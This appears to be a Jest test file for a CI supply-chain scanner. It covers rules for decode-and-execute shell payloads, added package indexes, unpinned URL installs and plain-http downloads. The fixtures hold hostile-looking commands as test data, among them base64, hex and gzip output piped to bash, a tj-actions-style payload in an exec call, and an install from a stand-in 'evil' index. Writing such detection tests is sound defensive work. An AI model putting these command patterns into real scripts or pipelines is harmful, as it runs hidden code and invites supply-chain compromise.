// What shells run: payloads decoded and executed at any length (tj-actions),
// and package-index options wherever a command can carry them.
import { describe, expect, it } from '@jest/globals';
import { expectFires, expectQuiet } from '../helpers/rules';
import { added, file, severities } from './helpers';

const SHORT = 'echo "ZWNobyBoaQ==" | base64 -d > /tmp/run.sh && bash /tmp/run.sh';

describe('obfuscation/shell-decode-exec', () => {
  it('fires on the tj-actions short payload added to an action bundle (issue 13)', () => {
    const js = `async function updateFeatures(token) {\n  await exec.getExecOutput('bash', ['-c', \`${SHORT}\`], { silent: true });\n}`;
    const f = added('dist/index.js', js);
    expect(severities(f, 'obfuscation/shell-decode-exec')).toEqual(['critical']);
  });

  it('fires in workflow steps, Dockerfiles, scripts and Python strings', () => {
    const found1 = added('.github/workflows/ci.yml', `      - run: ${SHORT}`);
    expectFires(found1, 'obfuscation/shell-decode-exec');
    const found2 = added('Dockerfile', 'RUN echo $P | base64 --decode | sh');
    expectFires(found2, 'obfuscation/shell-decode-exec');
    const found3 = added('tools/setup.sh', 'eval "$(echo aWQK | base64 -d)"');
    expectFires(found3, 'obfuscation/shell-decode-exec');
    const found4 = added('tools/x.sh', 'xxd -r -p payload.hex | bash');
    expectFires(found4, 'obfuscation/shell-decode-exec');
    const found5 = added('pkg/run.py', 'os.system("echo aWQK | openssl enc -d -base64 | sh")');
    expectFires(found5, 'obfuscation/shell-decode-exec');
    const found6 = added(
      'index.js',
      "const { execSync } = require('child_process');\nconst cmd = 'gzip -dc p.gz | bash';\nexecSync(cmd);"
    );
    expectFires(found6, 'obfuscation/shell-decode-exec');
  });

  it('is quiet on decoding that is not run, and on ordinary eval "$(...)" in CI', () => {
    const ci =
      'echo "$KEY" | base64 -d > key.pem\neval "$(ssh-agent -s)"\neval "$(conda shell.bash hook)"\ntar -xzf data.tar.gz';
    const found7 = file('.github/workflows/release.yml', ci);
    expectQuiet(found7, 'obfuscation/shell-decode-exec');
  });
});

describe('deps/index-url', () => {
  it('fires high when a change adds an extra index in a Dockerfile, a run step or an env variable', () => {
    expect(
      severities(
        added('Dockerfile', 'RUN pip install --extra-index-url https://pypi.example.net/simple corp-utils'),
        'deps/index-url'
      )
    ).toEqual(['high']);
    expect(
      severities(
        added(
          '.github/workflows/ci.yml',
          '      - run: uv pip install --index https://pkgs.example.net/simple internal'
        ),
        'deps/index-url'
      )
    ).toEqual(['high']);
    expect(
      severities(added('Dockerfile', 'ENV PIP_EXTRA_INDEX_URL=https://pkgs.example.net/simple'), 'deps/index-url')
    ).toEqual(['high']);
    const found8 = added(
      'scripts/install.sh',
      'python -m pip install \\\n  -i https://mirror.example.org/simple numpy'
    );
    expectFires(found8, 'deps/index-url');
  });

  it('reads pip.conf, uv.toml and pyproject [tool.uv] index settings', () => {
    const found9 = added('pip.conf', '[global]\nextra-index-url = https://pkgs.example.net/simple');
    expectFires(found9, 'deps/index-url', 1);
    const found10 = added('uv.toml', '[[index]]\nname = "corp"\nurl = "https://pkgs.example.net/simple"');
    expectFires(found10, 'deps/index-url', 1);
    const found11 = added('pyproject.toml', '[[tool.uv.index]]\nurl = "https://pkgs.example.net/simple"');
    expectFires(found11, 'deps/index-url', 1);
  });

  it('fires on index options in a process call', () => {
    const found12 = added(
      'noxfile.py',
      'session.run("pip", "install", "--extra-index-url", "https://pkgs.example.net/simple", "x")\nsubprocess.run(["pip", "install", "--extra-index-url", "https://pkgs.example.net/simple", "x"])'
    );
    expectFires(found12, 'deps/index-url');
  });

  it('keeps well-known project indexes low and an existing third-party index at medium', () => {
    const nightly =
      '      - run: pip install --pre --extra-index-url https://pypi.anaconda.org/scientific-python-nightly-wheels/simple numpy';
    expect(severities(file('.github/workflows/nightly.yml', nightly), 'deps/index-url')).toEqual(['low']);
    const torch = 'pip install torch --index-url https://download.pytorch.org/whl/cpu';
    expect(severities(file('tools/ci.sh', torch), 'deps/index-url')).toEqual(['low']);
    expect(
      severities(
        file('tools/ci.sh', 'pip install --extra-index-url https://mirrors.loong64.com/pypi/simple x'),
        'deps/index-url'
      )
    ).toEqual(['medium']);
  });

  it('judges an index named through a variable by what the file sets it to (numba 1219898a0090)', () => {
    // numba's new win-arm64 wheel builder: `WHEELS_INDEX_URL` is its own anaconda.org channel, set at the workflow's top.
    const numba = [
      'env:',
      '  WHEELS_INDEX_URL: https://pypi.anaconda.org/numba/label/dev/simple',
      'jobs:',
      '  build:',
      '    steps:',
      '      - run: |',
      '          python -m pip install -i ${{ env.WHEELS_INDEX_URL }} llvmlite',
      '          python -m pip install --pre -i ${{ env.WHEELS_INDEX_URL }} llvmlite'
    ].join('\n');
    const found = added('.github/workflows/wheels.yml', numba).filter((f) => f.ruleId === 'deps/index-url');
    expect(found.map((f) => f.severity)).toEqual(['low', 'low']);
    expect(found[0].message).toContain('https://pypi.anaconda.org/numba/label/dev/simple');
    // A shell variable set to another host is that host's index: an extra one a change adds is high, as a literal.
    const sh = 'EXTRA=https://pkgs.example.net/simple\npip install --extra-index-url "$EXTRA" corp-utils';
    expect(severities(added('tools/ci.sh', sh), 'deps/index-url')).toEqual(['high']);
    const braces = 'export IDX="https://pkgs.example.net"\npip install -i ${IDX}/simple corp-utils';
    expect(severities(added('tools/ci.sh', braces), 'deps/index-url')).toEqual(['medium']);
    // Set to PyPI itself: no package source is added.
    const pypi = 'env:\n  IDX: https://pypi.org/simple\nsteps:\n  - run: pip install -i ${{ env.IDX }} numpy';
    expectQuiet(added('.github/workflows/ci.yml', pypi), 'deps/index-url');
  });

  it('keeps an index variable the file does not set to a literal URL at medium in a change', () => {
    const unknown = [
      '      - run: pip install -i ${{ env.WHEELS_INDEX_URL }} llvmlite',
      '      - run: pip install --extra-index-url ${{ vars.MIRROR }} x',
      '      - run: pip install --extra-index-url $FROM_SECRET y',
      '        env:',
      '          FROM_SECRET: ${{ secrets.INDEX }}'
    ].join('\n');
    const found = added('.github/workflows/ci.yml', unknown);
    expect(severities(found, 'deps/index-url')).toEqual(['medium', 'medium', 'medium']);
    expectFires(found, 'deps/index-url', 3);
  });

  it("reports uv's unsafe index strategies, which turn off its dependency-confusion guard, at low (nibabel 2fb125cd16a8)", () => {
    const tox = [
      'set_env =',
      '  pre: PIP_EXTRA_INDEX_URL=https://pypi.anaconda.org/scientific-python-nightly-wheels/simple',
      '  pre: UV_INDEX=https://pypi.anaconda.org/scientific-python-nightly-wheels/simple',
      '  pre: UV_INDEX_STRATEGY=unsafe-best-match'
    ].join('\n');
    const found = added('tox.ini', tox).filter((f) => f.ruleId === 'deps/index-url');
    // No source of its own: the index beside it is what is judged (here the nightly wheels' channel, low).
    expect(found.map((f) => `${f.location?.line} ${f.severity}`)).toEqual(['2 low', '3 low', '4 low']);
    expect(found[2].message).toContain('dependency confusion');
    const cli =
      'uv pip install --index-strategy unsafe-first-match --extra-index-url https://download.pytorch.org/whl/cpu torch';
    expect(severities(added('tools/ci.sh', cli), 'deps/index-url')).toEqual(['low', 'low']);
    const uv = '[tool.uv]\nindex-strategy = "unsafe-best-match"';
    expect(severities(added('pyproject.toml', uv), 'deps/index-url')).toEqual(['low']);
    expect(severities(file('tox.ini', tox), 'deps/index-url')).toEqual(['low', 'low', 'low']);
    const safe = added('tools/ci.sh', 'export UV_INDEX_STRATEGY=first-index\nuv pip install numpy');
    expectQuiet(safe, 'deps/index-url');
  });

  it('is quiet on PyPI itself, on local wheel folders, and leaves requirement files to the dependency rules', () => {
    const found13 = file(
      'tools/ci.sh',
      'pip install --index-url https://pypi.org/simple numpy\npip install --find-links dist/ pkg'
    );
    expectQuiet(found13, 'deps/index-url');
    const found14 = added('requirements.txt', '--extra-index-url https://pkgs.example.net/simple\nnumpy');
    expectQuiet(found14, 'deps/index-url');
    // geopandas@06d793cefcbc: the job's own wheel cache, a `file:` URL, is a folder, not a remote index.
    const cache = added('.travis.yml', 'env:\n  - PIP_FIND_LINKS=file://$HOME/.cache/pip/wheels');
    expectQuiet(cache, 'deps/index-url');
    expect(severities(added('ci.sh', 'pip install --index-url file:///opt/wheels/simple x'), 'deps/index-url')).toEqual(
      ['low']
    );
  });

  it('takes a host the shell fills in for a variable: medium in a change, not the high of a named unknown host', () => {
    expect(
      severities(added('ci.sh', 'pip install --extra-index-url https://$MIRROR/simple x'), 'deps/index-url')
    ).toEqual(['medium']);
    expect(
      severities(added('ci.sh', 'pip install --extra-index-url https://mirror.evil.example/simple x'), 'deps/index-url')
    ).toEqual(['high']);
  });
});

describe('deps/direct-url in install commands', () => {
  it('fires medium on a fork branch installed in a CI step (nibabel f81f5a72ecd8) and on other unpinned URL installs', () => {
    const nibabel =
      '      - name: Install tox\n        run: |\n          uv tool install -v tox --with=git+https://github.com/effigies/tox-gh-actions@abiflags --with=tox-uv';
    const found = added('.github/workflows/test.yml', nibabel);
    expectFires(found, 'deps/direct-url', 1);
    const hit = found.find((f) => f.ruleId === 'deps/direct-url')!;
    expect(hit.severity).toBe('medium');
    expect(hit.location?.line).toBe(3);
    expect(hit.message).toContain('https://github.com/effigies/tox-gh-actions');
    const script = [
      'pip install git+https://github.com/someone/fastio',
      'python -m pip install "fastio @ git+https://github.com/someone/fastio.git@main"',
      'uv pip install https://example.net/dist/fastio-1.0.tar.gz',
      'pipx install git+https://github.com/someone/tool.git',
      'uvx --from git+https://github.com/someone/tool tool --help'
    ].join('\n');
    expect(severities(added('tools/ci.sh', script), 'deps/direct-url')).toEqual([
      'medium',
      'medium',
      'medium',
      'medium',
      'medium'
    ]);
    expectFires(
      added('Dockerfile', 'RUN pip install -e git+https://github.com/someone/x@dev#egg=x'),
      'deps/direct-url'
    );
  });

  it('is low when the source is pinned: a full commit, a release tag, a hash, a wheel on PyPI’s file host', () => {
    const pinned = [
      `pip install git+https://github.com/someone/fastio@${'a'.repeat(40)}`,
      'pip install git+https://github.com/someone/fastio@v1.2.3',
      'pip install "https://example.net/fastio-1.0.tar.gz#sha256=' + 'b'.repeat(64) + '"',
      'pip install https://files.pythonhosted.org/packages/aa/bb/fastio-1.0-py3-none-any.whl',
      'pip install git+https://github.com/${{ github.repository }}@${{ github.sha }}'
    ].join('\n');
    expect(severities(added('tools/ci.sh', pinned), 'deps/direct-url')).toEqual(['low', 'low', 'low', 'low']);
    // A tree's installs from development branches (scipy, networkx, mne test against upstream main) are inventory.
    const upstream =
      '      - run: pip install git+https://github.com/numpy/numpy.git git+https://github.com/mesonbuild/meson.git';
    expect(severities(file('.github/workflows/linux.yml', upstream), 'deps/direct-url')).toEqual(['low', 'low']);
  });

  it('is quiet on indexes, requirement files given by URL, local paths and hosts, and text that is no install', () => {
    const quiet = [
      'pip install --extra-index-url https://pypi.anaconda.org/scientific-python-nightly-wheels/simple numpy',
      'pip install -r https://example.net/requirements.txt',
      'pip install -f https://example.net/wheels/ numpy',
      'pip install -e . ./dist/pkg-1.0.whl',
      'pip install http://localhost:8080/pkg-1.0.tar.gz',
      'git clone https://github.com/someone/fastio && cd fastio && pip install .',
      'echo "see https://github.com/someone/fastio"',
      'uv run python tools/fetch.py https://github.com/someone/data/archive/main.zip',
      'uvx cookiecutter gh:someone/template https://github.com/someone/template'
    ].join('\n');
    const none = added('tools/ci.sh', quiet);
    expectQuiet(none, 'deps/direct-url');
    // Python code and notebooks are not install commands of CI (a notebook's `!pip install git+…` is a tutorial's).
    expectQuiet(added('docs/demo.py', 'os.system("pip install git+https://github.com/someone/x")'), 'deps/direct-url');
  });
});

describe('code/plain-http-download', () => {
  // shapely 0013694e48a6, ci/travis/install_geos.sh: the GEOS release fetched over http:// and built.
  const GEOS = [
    '    if [ -d "$GEOSINSTVERSION/include/geos" ]; then',
    '        echo "Using cached install $GEOSINSTVERSION"',
    '    else',
    '        wget -q http://download.osgeo.org/geos/geos-$GEOSVERSION.tar.bz2',
    '        tar xfj geos-$GEOSVERSION.tar.bz2',
    '        cd geos-$GEOSVERSION',
    '        build_geos',
    '    fi'
  ].join('\n');

  it('fires medium on a CI script that downloads over http:// and builds what it got (shapely 0013694e48a6)', () => {
    const found = added('ci/travis/install_geos.sh', GEOS);
    expectFires(found, 'code/plain-http-download', 1);
    const hit = found.find((f) => f.ruleId === 'code/plain-http-download')!;
    expect([hit.severity, hit.location?.line]).toEqual(['medium', 4]);
    expect(hit.message).toContain('download.osgeo.org');
    const more = [
      'curl -sSLO http://ftp.example-mirror.org/pub/hdf5-1.14.tar.gz',
      'curl -L http://ftp.example-mirror.org/pub/hdf5-1.14.tar.gz | tar xz',
      'Invoke-WebRequest -Uri http://ftp.example-mirror.org/x.zip -OutFile x.zip'
    ].join('\n');
    expect(severities(added('tools/get.ps1', more), 'code/plain-http-download')).toEqual([
      'medium',
      'medium',
      'medium'
    ]);
    // A continued RUN line (shapely a42f945eecd5, Dockerfile.wheels) is one finding, on the line of the URL.
    const docker = [
      'RUN mkdir -p /src \\',
      '    && cd /src \\',
      '    && curl -f -L -O http://download.osgeo.org/geos/geos-$GEOS_VERSION.tar.bz2 \\',
      '    && tar jxf geos-$GEOS_VERSION.tar.bz2'
    ].join('\n');
    const run = added('Dockerfile.wheels', docker).filter((f) => f.ruleId === 'code/plain-http-download');
    expect(run.map((f) => `${f.location?.line} ${f.severity}`)).toEqual(['3 medium']);
    const step = added('.github/workflows/ci.yml', '      - run: wget http://download.osgeo.org/proj/proj-9.4.tar.gz');
    expectFires(step, 'code/plain-http-download');
    const setup =
      'from urllib.request import urlretrieve\nurlretrieve("http://download.osgeo.org/geos/geos-3.12.tar.bz2", "geos.tar.bz2")';
    expect(severities(added('setup.py', setup), 'code/plain-http-download')).toEqual(['medium']);
  });

  it('is low when a checksum or signature is verified nearby', () => {
    const checked = `${GEOS.replace('tar xfj', 'echo "$GEOS_SHA256  geos-$GEOSVERSION.tar.bz2" | sha256sum -c -\n        tar xfj')}`;
    expect(severities(added('ci/travis/install_geos.sh', checked), 'code/plain-http-download')).toEqual(['low']);
    const py =
      'import hashlib, urllib.request\nurllib.request.urlretrieve("http://download.osgeo.org/x.tar.gz", "x.tar.gz")\nassert hashlib.sha256(open("x.tar.gz", "rb").read()).hexdigest() == SHA';
    expect(severities(added('tools/fetch.py', py), 'code/plain-http-download')).toEqual(['low']);
  });

  it('is quiet on https, loopback and reserved hosts, proxies, requests that save nothing, and library or test code', () => {
    const quiet = [
      'wget -q https://download.osgeo.org/geos/geos-3.12.tar.bz2',
      'curl -o x.tar.gz http://localhost:8000/x.tar.gz',
      'wget http://127.0.0.1:8080/wheel.whl',
      'curl -O http://files.example.com/x.tar.gz',
      'wget http://$MIRROR_HOST/x.tar.gz',
      'curl -x http://proxy.corp.net:3128 -O https://download.osgeo.org/x.tar.gz',
      'curl -sf http://localhost:5000/health',
      'curl http://httpbin.org/get',
      '# wget http://download.osgeo.org/geos/old.tar.bz2'
    ].join('\n');
    const none = added('ci/install.sh', quiet);
    expectQuiet(none, 'code/plain-http-download');
    const lib =
      'import urllib.request\ndef fetch():\n    return urllib.request.urlopen("http://data.astropy.org/x.fits").read()';
    const library = added('src/pkg/data.py', lib);
    expectQuiet(library, 'code/plain-http-download');
  });
});
